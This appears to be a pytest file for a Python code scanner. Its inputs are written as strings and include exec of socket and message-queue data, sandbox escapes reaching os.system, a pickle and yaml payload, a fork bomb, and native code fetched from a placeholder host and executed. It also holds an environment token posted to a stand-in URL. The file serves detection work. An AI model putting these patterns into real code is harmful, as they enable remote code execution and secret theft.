"""Code that is reached by a side door, or by somebody outside, is a fact like any other."""

import pickle

import pytest

from scanners.facts import Act, Context, Label, Trick
from tests.scanners.python.conftest import Read

PAYLOAD = "exec(x)"
FROM_OUTSIDE = {
    "stream": "import asyncio\nasync def f():\n"
    "    r, w = await asyncio.open_connection('a', 1)\n    exec(await r.read())",
    "stream lines": "import asyncio\nasync def f():\n    r, w = await asyncio.open_connection('a', 1)\n"
    "    async for x in r:\n        exec(x)",
    "own connector": "import asyncio\nasync def g():\n    return await asyncio.open_connection('a', 1)\n"
    "async def f():\n    r, w = await g()\n    async for x in r:\n        exec(x)",
    "attribute callback": "import paho.mqtt.client as m\ndef f(c, u, msg):\n    exec(msg.payload)\n"
    "c = m.Client()\nc.on_message = f",
    "method callback": "import paho.mqtt.client as m\nclass A:\n    def __init__(self):\n        self.c = m.Client()\n"
    "        self.c.on_message = self.f\n    def f(self, c, u, msg):\n        exec(msg.payload)",
    "keyword callback": "import redis\nr = redis.Redis()\np = r.pubsub()\np.subscribe(a=lambda m: exec(m['data']))",
    "listen": "import redis\nr = redis.Redis()\np = r.pubsub()\nfor m in p.listen():\n    exec(m['data'])",
    "consume": "import pika\nc = pika.BlockingConnection().channel()\ndef f(ch, method, props, body):\n    exec(body)\n"
    "c.basic_consume(queue='a', on_message_callback=f)",
    "subscribe": "import nats\nasync def g():\n    n = await nats.connect('a')\n"
    "    async def f(msg):\n        exec(msg.data)\n"
    "    await n.subscribe('a', cb=f)",
    "decorated": "import socketio\ns = socketio.Client()\n@s.on('run')\ndef f(data):\n    exec(data)",
    "event": "import socketio\ns = socketio.Client()\n@s.event\ndef run(data):\n    exec(data)",
    "receive": "import zmq\ns = zmq.Context().socket(1)\nexec(s.recv_string())",
    "websocket lines": "import websockets\nasync def f():\n    async with websockets.connect('wss://a') as w:\n"
    "        async for x in w:\n            exec(x)",
    "websocket application": "import websocket\n"
    "def f(w, x):\n    exec(x)\nwebsocket.WebSocketApp('wss://a', on_message=f)",
    "client session": "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n"
    "        async with s.ws_connect('wss://a') as w:\n            async for m in w:\n                exec(m.data)",
    "console": "import socket, sys, code\n"
    "s = socket.create_connection(('a', 1))\nsys.stdin = s.makefile('r')\ncode.interact()",
}
PICKLED = "import pickle\npickle.loads(" + repr(b"cos\nsystem\n(Vid\ntR.") + ")"
REACHED = {
    "setup": (
        "import timeit\ntimeit.timeit('1', 'import os; os.system(\"id\")')",
        Act.PROCESS_START,
        "id",
    ),
    "stopwatch": (
        'import timeit\ntimeit.Timer(stmt=\'__import__("os").system("id")\').timeit()',
        Act.PROCESS_START,
        "id",
    ),
    "factory": (
        (
            "import logging.config\n"
            "logging.config.dictConfig({'handlers': {'a': {'()': 'subprocess.Popen', 'args': ['id', '-u']}}})"
        ),
        Act.PROCESS_START,
        "id -u",
    ),
    "external factory": (
        (
            "import logging.config\n"
            "logging.config.dictConfig({'filters': {'a': {'()': 'ext://os.system', 'command': 'id'}}})"
        ),
        Act.PROCESS_START,
        "id",
    ),
    "own factory": (
        (
            "import logging.config, os\ndef make(cmd):\n    os.system(cmd)\n"
            "logging.config.dictConfig({'formatters': {'a': {'()': make, 'cmd': 'id'}}})"
        ),
        Act.PROCESS_START,
        "id",
    ),
    "classes": (
        (
            "for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == 'Popen':\n"
            "        c('id', shell=True)"
        ),
        Act.PROCESS_START,
        "id",
    ),
    "classes by name": (
        "k = {c.__name__: c for c in object.__subclasses__()}\nk['Popen'](['id'])",
        Act.PROCESS_START,
        "id",
    ),
    "classes by order": (
        "().__class__.__mro__[-1].__subclasses__()[213]('id', shell=True)",
        Act.PROCESS_START,
        "id",
    ),
    "globals": (
        "def f(x):\n    x.__init__.__globals__['sys'].modules['os'].system('id')",
        Act.PROCESS_START,
        "id",
    ),
    "globals of os": (
        "def f(x):\n    x.close.__globals__['system']('id')",
        Act.PROCESS_START,
        "id",
    ),
    "builtins": (
        "def f(x):\n    x.__globals__['__builtins__']['eval']('1 + 1')",
        Act.CODE_EVAL,
        "1 + 1",
    ),
    "frame": (
        "import sys\nsys._getframe().f_builtins['eval']('1 + 1')",
        Act.CODE_EVAL,
        "1 + 1",
    ),
    "generator": (
        (
            "import functools\ndef g():\n    yield from 'os|system|id'.split('|')\na, b, c = g()\n"
            "functools.reduce(getattr, [b], __import__(a))(c)"
        ),
        Act.PROCESS_START,
        "id",
    ),
    "yields": (
        "def g():\n    yield 'os'\n    yield 'system'\na, b = g()\ngetattr(__import__(a), b)('id')",
        Act.PROCESS_START,
        "id",
    ),
    "yaml": (
        "import yaml\nyaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.UnsafeLoader)",
        Act.PROCESS_START,
        "id",
    ),
    "pickle": (
        PICKLED,
        Act.PROCESS_START,
        "id",
    ),
    "query": (
        "import sqlite3\nd = sqlite3.connect('a')\nd.execute('select load_extension(\"a.so\")')",
        Act.NATIVE_LOAD,
        'select load_extension("a.so")',
    ),
    "library": (
        "import sqlite3\nd = sqlite3.connect('a')\nd.load_extension('a.so')",
        Act.NATIVE_LOAD,
        "a.so",
    ),
    "page": (
        "import mmap\nmmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_EXEC)",
        Act.NATIVE_CALL,
        "mmap",
    ),
    "fork": (
        "import os\nwhile True:\n    os.fork()",
        Act.PROCESS_START,
        "fork",
    ),
    "profile": (
        "import sys\nsys.setprofile(lambda f, e, a: None)",
        Act.HOST_PATCH,
        "sys.setprofile",
    ),
    "stream": (
        "import socket, sys\ns = socket.create_connection(('a', 1))\nsys.stdout = s.makefile('w')",
        Act.STREAM_TO_SOCKET,
        "sys.stdout",
    ),
}


@pytest.mark.parametrize("source", FROM_OUTSIDE.values(), ids=FROM_OUTSIDE)
def test_what_a_stranger_sends_is_known_where_it_runs(read_python: Read, source: str) -> None:
    facts = [fact for fact in read_python(source).facts if fact.act is Act.CODE_EVAL]
    assert any(Label.NETWORK in fact.labels for fact in facts)


@pytest.mark.parametrize(("source", "act", "detail"), REACHED.values(), ids=REACHED)
def test_side_door_leads_to_the_act_behind_it(read_python: Read, source: str, act: Act, detail: str) -> None:
    assert detail in [fact.detail for fact in read_python(source).facts if fact.act is act]


def test_pickle_of_today_names_what_it_would_call(read_python: Read) -> None:
    data = pickle.dumps(pytest.importorskip)
    assert read_python(f"import pickle\npickle.loads({data!r})").errors == ()


def test_native_code_from_the_network_is_code(read_python: Read) -> None:
    source = (
        "import ctypes, mmap, urllib.request\ncode = urllib.request.urlopen('https://a.example.invalid').read()\n"
        "page = mmap.mmap(-1, 9, prot=mmap.PROT_EXEC | mmap.PROT_WRITE)\npage.write(code)\n"
        "kind = ctypes.CFUNCTYPE(ctypes.c_int)\nkind(ctypes.addressof(ctypes.c_char.from_buffer(page)))()"
    )
    assert any(fact.act is Act.CODE_EVAL and Label.NETWORK in fact.labels for fact in read_python(source).facts)


def test_loader_that_fetches_is_code_from_the_network(read_python: Read) -> None:
    source = (
        "import importlib.abc, sys\nfrom urllib.request import urlopen\nclass F(importlib.abc.SourceLoader):\n"
        "    def get_data(self, path):\n        return urlopen(path).read()\nsys.meta_path.append(F())"
    )
    assert any(fact.act is Act.CODE_LOAD and Label.NETWORK in fact.labels for fact in read_python(source).facts)


def test_pickle_behind_an_address_came_over_the_network(read_python: Read) -> None:
    facts = read_python("import pandas\npandas.read_pickle('https://a.example.invalid/x')").facts
    assert any(fact.act is Act.CODE_UNPACK and Label.NETWORK in fact.labels for fact in facts)


@pytest.mark.parametrize(
    "source",
    [
        "exec(''.join(chr(int(a, 2)) for a in open('a').read().split()))",
        "exec(bytes(T.index(a) for a in open('a').read()))",
        "exec(bytes([int(a, 2) for a in open('a')]).decode())",
    ],
)
def test_letters_made_of_numbers_are_decoded_also_when_unknown(read_python: Read, source: str) -> None:
    facts = [fact for fact in read_python(source).facts if fact.act is Act.CODE_EVAL]
    assert any(Label.DECODED in fact.labels for fact in facts)


@pytest.mark.parametrize("source", ["list(reversed(['a = 1', 'b = 2']))", "['a = 1', 'b = 2'][::-1]"])
def test_list_read_from_its_end_is_no_trick(read_python: Read, source: str) -> None:
    facts = [fact for fact in read_python(f"exec('\\n'.join({source}))").facts if fact.act is Act.CODE_EVAL]
    assert facts
    assert not any(Trick.DECODED in fact.tricks for fact in facts)


def test_text_written_backwards_is_a_trick(read_python: Read) -> None:
    facts = [fact for fact in read_python("exec(')1(tnirp'[::-1])").facts if fact.act is Act.CODE_EVAL]
    assert any(Trick.DECODED in fact.tricks for fact in facts)


PLACES = {
    "beside": ("open(Path(__file__).parent / 'a.json')", "{own}/a.json"),
    "beside by name": ("open(Path(__file__).with_name('a.json'))", "{own}/a.json"),
    "beside by function": ("open(os.path.join(os.path.dirname(__file__), 'a.json'))", "{own}/a.json"),
    "a neighbour": ("open(Path(__file__).parent.parent / 'b' / 'a.json')", "{own}/../b/a.json"),
    "above": ("open(Path(__file__).resolve().parents[1] / 'a.json')", "{own}/../a.json"),
    "data": ("open(Path(context.data_dir) / 'a.json')", "{data}/a.json"),
    "data of others": ("open(Path(context.data_dir).parent / 'b' / 'a.json')", "{data}/../b/a.json"),
}


@pytest.mark.parametrize(("use", "path"), PLACES.values(), ids=PLACES)
def test_path_says_whether_it_leaves_the_plugin(read_python: Read, use: str, path: str) -> None:
    facts = read_python(f"import os\nfrom pathlib import Path\ndef run(context):\n    {use}").facts
    assert path in [fact.detail for fact in facts if fact.act is Act.FILE_READ]


def test_function_that_an_example_calls_too_is_not_dead(read_python: Read) -> None:
    files = {
        "a/__init__.py": "",
        "a/b.py": "import os\ndef f():\n    os.system('id')",
        "examples/c.py": "from a.b import f\nf()",
    }
    contexts = [fact.context for fact in read_python(files).facts if fact.act is Act.PROCESS_START]
    assert contexts == [Context.RUNTIME]


@pytest.mark.parametrize(
    "keep",
    ["import queue\nkept = queue.Queue()\nput = kept.put_nowait", "kept = []\nput = kept.append", "kept = {}"],
    ids=["queue", "list", "dictionary"],
)
def test_what_one_function_keeps_another_sends(read_python: Read, keep: str) -> None:
    use = (
        "kept['a'] = secret"
        if keep == "kept = {}"
        else "kept.put(secret)"
        if "queue" in keep
        else "kept.append(secret)"
    )
    source = (
        f"import os, requests\n{keep}\ndef send():\n    requests.post('https://x', data=str(kept))\nsend()\n"
        f"def note():\n    secret = os.environ['A_TOKEN']\n    {use}\n"
    )
    facts = [fact for fact in read_python(source).facts if fact.act is Act.NETWORK_SEND]
    assert any(Label.SECRET in fact.labels for fact in facts)


def test_own_mapping_makes_up_what_is_missing(read_python: Read) -> None:
    source = (
        "import os\nclass A:\n    def f(self, x):\n        os.system(x)\nclass R(dict):\n    def __missing__(self, k):"
        "\n        self[k] = A()\n        return self[k]\nr = R()\nr['a'].f('id')"
    )
    assert "id" in [fact.detail for fact in read_python(source).facts if fact.act is Act.PROCESS_START]


def test_name_that_fills_a_template_is_no_decoded_code(read_python: Read) -> None:
    source = (
        "def make(names):\n    for n in names:\n        exec('def %s(self):\\n    return self.call(%r)' % (chr(n), n))"
    )
    facts = [fact for fact in read_python(source).facts if fact.act is Act.CODE_EVAL]
    assert facts
    assert not any(Label.DECODED in fact.labels for fact in facts)


def test_line_that_follows_a_template_is_decoded_code(read_python: Read) -> None:
    source = "def make(names):\n    for n in names:\n        exec('def f(self):\\n    return 1\\n%s' % chr(n))"
    facts = [fact for fact in read_python(source).facts if fact.act is Act.CODE_EVAL]
    assert any(Label.DECODED in fact.labels for fact in facts)
